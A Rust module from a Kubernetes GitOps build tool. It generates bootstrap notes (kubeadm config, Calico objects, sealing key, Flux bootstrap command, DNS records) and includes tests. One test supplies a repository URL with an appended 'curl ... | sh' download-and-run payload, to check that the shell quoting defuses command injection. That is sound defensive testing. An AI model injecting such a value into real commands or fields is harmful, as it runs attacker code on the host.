//! Stage `tree`, one more file: `out/BOOTSTRAP.md`, what must exist before Flux reconciles the
//! tree, derived from the site (Validated `Site`, its units -> markdown text). It is part of
//! the generated tree rather than a command's output so that it is committed and reviewed
//! with the objects it belongs to, `build --check` keeps it fresh, and a pull request shows
//! when a change needs a step outside Flux (a new DNS name, another pod CIDR). Pure and
//! deterministic like the rest of the tree.

use std::fmt::Write as _;

use serde_json::{Value, json};

use crate::manifest::{Unit, to_yaml};
use crate::site::components::{Capability, DnsTarget, UnitOf};
use crate::site::{Encapsulation, Site};

/// The file's path inside `out/`.
pub const BOOTSTRAP_FILE: &str = "BOOTSTRAP.md";

/// The Calico release whose CRDs the tree is checked against and whose operator the
/// Installation below is written for (calico@v3.32.1:charts/tigera-operator/values.yaml pins
/// `tigeraOperator.version: v1.42.3`).
const CALICO: &str = "v3.32.1";

fn yaml_block(out: &mut String, docs: &[Value]) {
    out.push_str("```yaml\n");
    for (i, d) in docs.iter().enumerate() {
        if i > 0 {
            out.push_str("---\n");
        }
        out.push_str(&to_yaml(d));
    }
    out.push_str("```\n\n");
}

/// The kube-apiserver flags that accept Dex's tokens: the issuer, the public client kubectl
/// logs in with, and the claims Dex issues (`email`, `groups`).
fn oidc_flags(site: &Site) -> Option<Vec<(&'static str, String)>> {
    site.component("dex").filter(|c| c.is_enabled(site))?;
    let dex = site.spec.dex.as_ref()?;
    let client = dex.static_client.iter().find(|c| c.public)?;
    Some(vec![
        (
            "oidc-issuer-url",
            dex.issuer.as_str().trim_end_matches('/').to_owned(),
        ),
        ("oidc-client-id", client.id.get_ref().to_string()),
        ("oidc-username-claim", "email".to_owned()),
        ("oidc-groups-claim", "groups".to_owned()),
    ])
}

/// `kubeadm init --config` input: the pod and service CIDRs the CNI reads back from kubeadm's
/// ConfigMap, the API endpoint, and the OIDC flags. Only for a site that describes its
/// cluster's network.
fn kubeadm(site: &Site) -> Option<Value> {
    let s = &site.spec;
    let network = s.network.as_ref()?;
    let mut api = json!({});
    if let Some(flags) = oidc_flags(site) {
        // kubeadm.k8s.io/v1beta4 writes extra arguments as a list of name/value pairs.
        api["extraArgs"] = flags
            .into_iter()
            .map(|(name, value)| json!({"name": name, "value": value}))
            .collect();
    }
    // kubeadm wants a full semantic version with its `v`.
    let v = *s.site.kubernetes_version.get_ref();
    let version = format!("v{}.{}", v.release(), v.patch().unwrap_or(0));
    let mut v = json!({
        "apiVersion": "kubeadm.k8s.io/v1beta4",
        "kind": "ClusterConfiguration",
        "kubernetesVersion": version,
        "networking": {
            "podSubnet": network.pod_cidr.get_ref().to_string(),
            "serviceSubnet": network.service_cidr.get_ref().to_string(),
        },
        "apiServer": api,
    });
    if let Some(cp) = &s.control_plane {
        v["controlPlaneEndpoint"] = json!(format!("{}:{}", cp.vip.get_ref(), cp.port));
    }
    Some(v)
}

/// The Calico operator's Installation with the pod pools, and its API server.
fn calico(site: &Site) -> Vec<Value> {
    let pools: Vec<Value> = site
        .calico_pod_pools()
        .map(|p| {
            json!({
                "name": p.name,
                "cidr": p.cidr.get_ref().to_string(),
                "blockSize": p.block_size.get_ref(),
                "encapsulation": p.encapsulation,
                "natOutgoing": if p.nat_outgoing { "Enabled" } else { "Disabled" },
                "nodeSelector": "all()",
            })
        })
        .collect();
    // BGP carries the routes of unencapsulated and IPIP pools (the operator refuses them with
    // BGP off: pkg/controller/installation/validation.go) and the site's peerings.
    let bgp = site.spec.calico.as_ref().is_some_and(|c| c.bgp.is_some())
        || site.calico_pod_pools().any(|p| {
            matches!(
                p.encapsulation,
                Encapsulation::None | Encapsulation::IPIP | Encapsulation::IPIPCrossSubnet
            )
        });
    vec![
        json!({
            "apiVersion": "operator.tigera.io/v1",
            "kind": "Installation",
            "metadata": {"name": "default"},
            "spec": {"calicoNetwork": {"bgp": if bgp { "Enabled" } else { "Disabled" }, "ipPools": pools}},
        }),
        json!({
            "apiVersion": "operator.tigera.io/v1",
            "kind": "APIServer",
            "metadata": {"name": "default"},
            "spec": {},
        }),
    ]
}

/// Every public name the site's components serve, with the address it must resolve to.
fn dns(site: &Site) -> Vec<(String, String, String)> {
    let ingress: Vec<String> = site
        .providers(Capability::Ingress)
        .into_iter()
        .filter(|c| c.unit != UnitOf::Instance)
        .flat_map(|c| (c.addresses)(site, crate::site::components::At::Site))
        .map(|a| a.ip.get_ref().to_string())
        .collect();
    let mut v = Vec::new();
    for (c, at) in site.targets() {
        for d in (c.dns)(site, at) {
            let to = match d.target {
                DnsTarget::Address(ip) => ip.to_string(),
                DnsTarget::Ingress if ingress.is_empty() => {
                    "the ingress's address (the cluster's)".to_owned()
                }
                DnsTarget::Ingress => ingress.join(", "),
            };
            v.push((d.name, to, d.what));
        }
    }
    // By name: the instance files may be read in any order, the notes may not change.
    v.sort();
    v
}

/// Numbered section headings, in the order they are written.
struct Sections(u32);

impl Sections {
    fn next(&mut self, o: &mut String, title: &str) {
        self.0 += 1;
        let _ = writeln!(o, "## {}. {title}\n", self.0);
    }
}

fn enabled(site: &Site, component: &str) -> bool {
    site.component(component)
        .is_some_and(|c| c.is_enabled(site))
}

/// The notes, as markdown.
pub fn notes(site: &Site, units: &[Unit]) -> String {
    let s = &site.spec;
    let name = site.name();
    let root = s.gitops.path.trim_matches('/');
    let mut o = String::new();
    let mut sec = Sections(0);
    let _ = writeln!(
        o,
        "# Bootstrap of {name}\n\nGenerated by casa-build from the site files: edit those, not this file. What must\nexist before Flux reconciles `{root}/clusters/{name}`, in this order. Every unit of the tree\nassumes it.\n"
    );

    // Kubernetes.
    sec.next(
        &mut o,
        &format!("Kubernetes {}", s.site.kubernetes_version.get_ref()),
    );
    let _ = writeln!(
        o,
        "The cluster's version must lie in every range below (`casa-build check` refuses it otherwise, CB090):\n"
    );
    for (component, what, range, source) in crate::validate::supported_ranges(site) {
        let _ = writeln!(o, "- {range}: {what} (component `{component}`; {source})");
    }
    o.push('\n');
    if site.tenant().is_none()
        && let Some(config) = kubeadm(site)
    {
        let calico = if s.calico.is_some() {
            " Calico's operator reads `podSubnet` back from kubeadm's\nConfigMap and refuses pools outside it (tigera/operator@v1.42.3:pkg/controller/ippool/defaults.go)."
        } else {
            ""
        };
        let _ = writeln!(
            o,
            "`kubeadm init --config cluster.yaml --upload-certs` on the first control-plane node\n(then `kubeadm join` the others) with this ClusterConfiguration (`kubernetesVersion`: the\npatch release you install).{calico}\n"
        );
        yaml_block(&mut o, &[config]);
        match oidc_flags(site) {
            Some(_) => {
                let staging = s.traefik.as_ref().is_some_and(|t| t.tls.acme_staging);
                let _ = writeln!(
                    o,
                    "The `oidc-*` arguments let the API server accept Dex's tokens for kubectl (kubelogin):\nthe username is the `email` claim, which the API server takes only with\n`email_verified: true`, and groups come from Dex's `groups` claim. The issuer must be\nreachable and trusted from the control-plane hosts (its DNS name below){}.\n",
                    if staging {
                        "; with Let's Encrypt staging its certificate is not publicly trusted: add\n`--oidc-ca-file` with the staging root"
                    } else {
                        ""
                    }
                );
            }
            None if enabled(site, "dex") => {
                let _ = writeln!(
                    o,
                    "The site has no public Dex client for kubectl, so no `oidc-*` arguments: the API server\naccepts no Dex token.\n"
                );
            }
            None => {}
        }
    }

    // Storage hosts.
    if let Some(ceph) = s.ceph.as_ref().filter(|_| enabled(site, "rook-ceph")) {
        let per = *ceph.osds_per_device.get_ref();
        let plan = site.osd_plan();
        if !plan.is_empty() {
            sec.next(&mut o, "Storage hosts");
            let mut text = "Each OSD device must be a raw disk (no partition table, no filesystem) whose udev link\nmatches the name below exactly (Rook matches /dev paths against the links as strings,\nrook@v1.20.6:pkg/daemon/ceph/osd/daemon.go).".to_owned();
            if per > 1 {
                let _ = write!(
                    text,
                    " {per} OSDs per device are made with LVM: install `lvm2` on\nevery storage host, or the OSDs fail to start after a reboot\n(rook@v1.20.6:Documentation/Getting-Started/Prerequisites/prerequisites.md, \"LVM package\")."
                );
            }
            let _ = writeln!(o, "{text}");
            let _ = writeln!(o, "\n| host | devices (/dev/disk/by-id/) |\n|---|---|");
            for p in &plan {
                let _ = writeln!(o, "| {} | {} |", p.node, p.devices.join(", "));
            }
            o.push('\n');
        }
    }

    // The CNI.
    if s.calico.is_some() {
        sec.next(
            &mut o,
            &format!("Calico {CALICO}: operator, Installation, API server"),
        );
        let _ = writeln!(
            o,
            "The pod pool is the operator's: it must be in the Installation when the operator first\nruns, or the operator makes its own default pool from the pod subnet (IPIP), and the pool\ncannot be changed through Flux later. The API server serves the `projectcalico.org/v3` kinds\nthe `calico` unit applies (tigera/operator@v1.42.3:pkg/apis/version.go). Install the operator\n(`kubectl create -f https://raw.githubusercontent.com/projectcalico/calico/{CALICO}/manifests/tigera-operator.yaml`),\nthen apply:\n"
        );
        yaml_block(&mut o, &calico(site));
        let _ = writeln!(
            o,
            "and wait until `kubectl get tigerastatus` shows `calico` and `apiserver` Available and\n`kubectl get apiservice v3.projectcalico.org` is Available.\n"
        );
    }
    if let Some(c) = &s.cilium {
        sec.next(&mut o, "Cilium");
        let _ = writeln!(
            o,
            "Cilium is the pod network Flux itself runs on: install its chart first, as the release\n`cilium` in `{}` with the values of `{root}/cilium/helmrelease-cilium.yaml` (`spec.values`),\nso that helm-controller later upgrades that release rather than installing a second one.\n",
            c.namespace
        );
    }

    // Sealing key.
    if enabled(site, "sealed-secrets") {
        let ns = s.sealing.namespace.as_str();
        let cert = s.sealing.cert.get_ref();
        let (sh_ns, sh_cert) = (sh(ns), sh(cert.as_str()));
        let key = format!("sealed-secrets-key-{name}");
        let sh_key = sh(&key);
        sec.next(&mut o, "The sealing key pair");
        let _ = writeln!(
            o,
            "Every SealedSecret of the tree is sealed for `{cert}`; the controller must hold its\nprivate key before the `sealed-secrets` unit starts, or it makes a key of its own and\ndecrypts nothing (sealed-secrets@v0.36.6:docs/bring-your-own-certificates.md). With the\nkey pair at hand:\n\n```sh\nkubectl -n {sh_ns} create secret tls {sh_key} --cert={sh_cert} --key=<private key>\nkubectl -n {sh_ns} label secret {sh_key} sealedsecrets.bitnami.com/sealed-secrets-key=active\n```\n\nThe controller (`{}` in `{ns}`) keeps every key it has held: values sealed with an older\ncertificate still open after it renews its key (every 30 days by default).\n",
            s.sealing.controller
        );
    }

    // Flux.
    sec.next(&mut o, "Flux 2.9");
    match site.tenant() {
        Some(t) => {
            let _ = writeln!(
                o,
                "The cluster's owner runs Flux and points a Kustomization in `{}` at\n`{root}/clusters/{name}` of {} (branch {}), applied with the tenant's ServiceAccount.\n",
                t.namespace.get_ref(),
                s.gitops.repository,
                s.gitops.branch
            );
        }
        None => {
            let _ = writeln!(
                o,
                "```sh\nflux bootstrap git --url={} --branch={} --path={}\n```\n",
                sh(&s.gitops.repository),
                sh(&s.gitops.branch),
                sh(&format!("{root}/clusters/{name}"))
            );
            match s.gitops.secret.as_deref() {
                Some("flux-system") => {
                    let _ = writeln!(
                        o,
                        "`flux bootstrap` makes the deploy-key Secret `flux-system/flux-system` (keys `identity`,\n`known_hosts`), the one the tree's GitRepository reads.\n"
                    );
                }
                Some(secret) => {
                    let _ = writeln!(
                        o,
                        "The tree's GitRepository reads the deploy key from `flux-system/{secret}`: create it with the\nkeys `identity` and `known_hosts` (`flux bootstrap` makes `flux-system/flux-system`).\n"
                    );
                }
                None => {}
            }
        }
    }
    let mut listed: Vec<&Unit> = units.iter().filter(|u| !u.entry).collect();
    listed.sort_by(|a, b| (a.layer, &a.name).cmp(&(b.layer, &b.name)));
    let order: Vec<String> = listed
        .into_iter()
        .map(|u| {
            if u.depends_on.is_empty() {
                format!("`{}`", u.name)
            } else {
                format!("`{}` (after {})", u.name, u.depends_on.join(", "))
            }
        })
        .collect();
    let _ = writeln!(
        o,
        "Flux then applies the units as their dependencies allow: {}.\n",
        order.join("; ")
    );

    // DNS.
    let names = dns(site);
    if !names.is_empty() {
        sec.next(&mut o, "DNS");
        let _ = writeln!(
            o,
            "Create these records (addresses are the LoadBalancer addresses the site fixes):\n\n| name | address | serves |\n|---|---|---|"
        );
        for (n, to, what) in &names {
            let _ = writeln!(o, "| {n} | {to} | {what} |");
        }
        o.push('\n');
        if let Some(t) = s.traefik.as_ref().filter(|t| t.tls.acme_email.is_some()) {
            let lb = t.lb_ip.get_ref();
            let _ = writeln!(
                o,
                "Certificates come from Let's Encrypt by TLS-ALPN-01: its servers must reach {lb} on\nport 443 for every name served by the ingress before a certificate is issued.\n"
            );
        }
    }
    while o.ends_with("\n\n") {
        o.pop();
    }
    o
}

/// `s` as one word of a POSIX shell command, quoted where it needs quoting: the notes'
/// `sh` blocks are pasted into a shell, and their words come from site files. The site's
/// grammars already keep these values to safe characters; this holds whatever they admit.
fn sh(s: &str) -> std::borrow::Cow<'_, str> {
    // Only a NUL cannot be quoted, and no site value holds one (control characters are
    // refused where the site is read): an empty word then, never the raw text.
    shlex::try_quote(s).unwrap_or(std::borrow::Cow::Borrowed("''"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::site::components::units;
    use crate::validate::testing::site_with;

    fn blocks(text: &str) -> Vec<Value> {
        let mut out = Vec::new();
        let mut rest = text;
        while let Some(start) = rest.find("```yaml\n") {
            let body = &rest[start + 8..];
            let end = body.find("```\n").expect("a closed block");
            let docs: Vec<Value> =
                serde_saphyr::from_str_multiple(&body[..end]).expect("the block is YAML");
            out.extend(docs);
            rest = &body[end..];
        }
        out
    }

    #[test]
    fn the_shell_commands_quote_what_the_site_gives_them() {
        // A URL the GitUrl grammar admits (no whitespace) that a shell would run in part.
        let url = "https://git.example.org/x;curl${IFS}http://203.0.113.9|sh";
        let repository = format!("repository = \"{url}\"");
        let (site, _) = site_with(
            &[(
                "repository = \"ssh://git@github.com/CoffeaTeam/coffea-casa-config.git\"",
                &repository,
            )],
            &[],
        );
        let text = notes(&site, &units(&site));
        let line = text
            .lines()
            .find(|l| l.starts_with("flux bootstrap git "))
            .expect("the bootstrap command");
        // No character a shell acts on stands outside quotes.
        let (mut quoted, mut bare) = (false, String::new());
        for c in line.chars() {
            match c {
                '\'' => quoted = !quoted,
                _ if !quoted => bare.push(c),
                _ => {}
            }
        }
        assert!(!quoted, "{line}");
        assert!(
            !bare.contains([';', '|', '&', '$', '`', '(', ')', '<', '>']),
            "{line}"
        );
        let words = shlex::split(line).expect("one shell command");
        assert_eq!(words.len(), 6, "{line}");
        assert_eq!(words[3], format!("--url={url}"), "{line}");
        assert_eq!(words[4], "--branch=main");
        assert!(words[5].starts_with("--path=out/clusters/"), "{line}");
        // The safe words of the reference site stay as they are.
        let (site, _) = site_with(&[], &[]);
        assert!(notes(&site, &units(&site)).contains("--branch=main"));
    }

    #[test]
    fn the_notes_hold_what_the_site_needs_before_flux() {
        let (site, _) = site_with(&[], &[]);
        let text = notes(&site, &units(&site));
        let docs = blocks(&text);
        assert_eq!(docs.len(), 3, "{text}");
        let kubeadm = &docs[0];
        assert_eq!(kubeadm["networking"]["podSubnet"], "10.244.0.0/16");
        assert_eq!(kubeadm["networking"]["serviceSubnet"], "10.96.0.0/12");
        assert_eq!(kubeadm["kubernetesVersion"], "v1.36.0");
        assert_eq!(kubeadm["controlPlaneEndpoint"], "192.0.2.10:8443");
        assert_eq!(
            kubeadm["apiServer"]["extraArgs"],
            json!([
                {"name": "oidc-issuer-url", "value": "https://dex.flatiron.hollandhpc.org"},
                {"name": "oidc-client-id", "value": "kubernetes"},
                {"name": "oidc-username-claim", "value": "email"},
                {"name": "oidc-groups-claim", "value": "groups"},
            ])
        );
        let installation = &docs[1];
        assert_eq!(
            installation["spec"]["calicoNetwork"],
            json!({"bgp": "Enabled", "ipPools": [{"name": "default-ipv4", "cidr": "10.244.0.0/16", "blockSize": 26, "encapsulation": "None", "natOutgoing": "Enabled", "nodeSelector": "all()"}]})
        );
        assert_eq!(docs[2]["kind"], "APIServer");
        // lvm2, because 5 OSDs share each drive, on the twelve storage hosts.
        assert!(
            text.contains(
                "5 OSDs per device are made with LVM: install `lvm2` on\nevery storage host"
            ),
            "{text}"
        );
        assert_eq!(text.matches("| r750-").count(), 12);
        // The sealing key for the committed certificate, the Flux path, the names.
        assert!(text.contains("kubectl -n kube-system create secret tls sealed-secrets-key-flatiron --cert=kubeseal-flatiron.pem"));
        assert!(text.contains("--path=out/clusters/flatiron"));
        for row in [
            "| dex.flatiron.hollandhpc.org | 198.51.100.5 |",
            "| coffea.casa | 198.51.100.5 |",
            "| *.dask.cmsaf-prod.flatiron.hollandhpc.org | 198.51.100.11 |",
            "| *.dask-worker.cmsaf-prod.flatiron.hollandhpc.org | 198.51.100.11 |",
            "| triton-grpc.cmsaf-prod.flatiron.hollandhpc.org | 198.51.100.13 |",
        ] {
            assert!(text.contains(row), "no {row} in\n{text}");
        }
        assert!(text.contains("1.34.1 to 1.36: Flux 2.9"));
        assert!(text.contains("1.31 to 1.36: Rook 1.20"));
    }

    #[test]
    fn one_osd_per_device_needs_no_lvm_and_vxlan_needs_no_bgp() {
        let (site, _) = site_with(
            &[
                ("osds_per_device = 5", "osds_per_device = 1"),
                ("encapsulation = \"None\"", "encapsulation = \"VXLAN\""),
            ],
            &[],
        );
        let text = notes(&site, &units(&site));
        assert!(!text.contains("lvm2"));
        // The site still peers with its switches, so BGP stays on.
        assert_eq!(blocks(&text)[1]["spec"]["calicoNetwork"]["bgp"], "Enabled");
    }

    #[test]
    fn the_calico_objects_are_what_the_operator_schema_accepts() {
        let (site, _) = site_with(&[], &[]);
        for doc in calico(&site) {
            let kind = doc["kind"].as_str().unwrap().to_ascii_lowercase();
            let path = format!(
                "{}/../shared/schemas/crds/operator.tigera.io/{kind}_v1.json",
                env!("CARGO_MANIFEST_DIR")
            );
            let schema: Value =
                serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
            let v = jsonschema::validator_for(&schema).expect("the schema compiles");
            let errors: Vec<String> = v.iter_errors(&doc).map(|e| e.to_string()).collect();
            assert!(errors.is_empty(), "{kind}: {errors:?}");
        }
    }
}
